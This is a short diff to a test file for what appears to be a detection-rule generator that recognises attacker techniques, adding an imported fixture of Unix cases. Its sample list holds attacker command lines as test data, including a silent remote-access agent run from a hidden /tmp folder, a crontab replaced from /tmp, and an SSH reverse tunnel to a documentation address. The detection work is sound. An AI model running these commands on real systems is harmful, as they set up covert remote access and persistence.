@@ -4,6 +4,7 @@ import { fidelityCheck } from '../vetting/fidelity';
 import { generateBuiltinRules, type TemplatePlatform } from './builtin-sigma-agent';
 import { knownSpellings, meetsSelection, shownAlternatives, techniqueOf } from './technique-match';
 import { TECHNIQUES } from './techniques';
+import { UNIX_SHOWN } from './unix-techniques.fixture';
 
 const article = { title: 'Notes on an intrusion', url: 'https://research.example.org/notes', date: '2026-11-27' };
 const item = { evidence: { start: 0, end: 1, text: 'x' }, confidence: 0.9, executable: '' };
@@ -266,6 +267,7 @@ const SHOWN: Array<[string, TemplatePlatform, string]> = [
   ['remote-access-dwservice', 'linux', '/tmp/.d/dwagent -silent'],
   ['remote-access-simplehelp', 'windows', 'C:\\ProgramData\\JWrapper-Remote Access\\SimpleHelp.exe'],
   ['crontab-replaced', 'linux', 'crontab /tmp/.c/cr'],
+  ...UNIX_SHOWN,
   ['ssh-reverse-tunnel', 'windows', 'ssh.exe -N -R 1080 tun@198.51.100.14'],
 ];
 
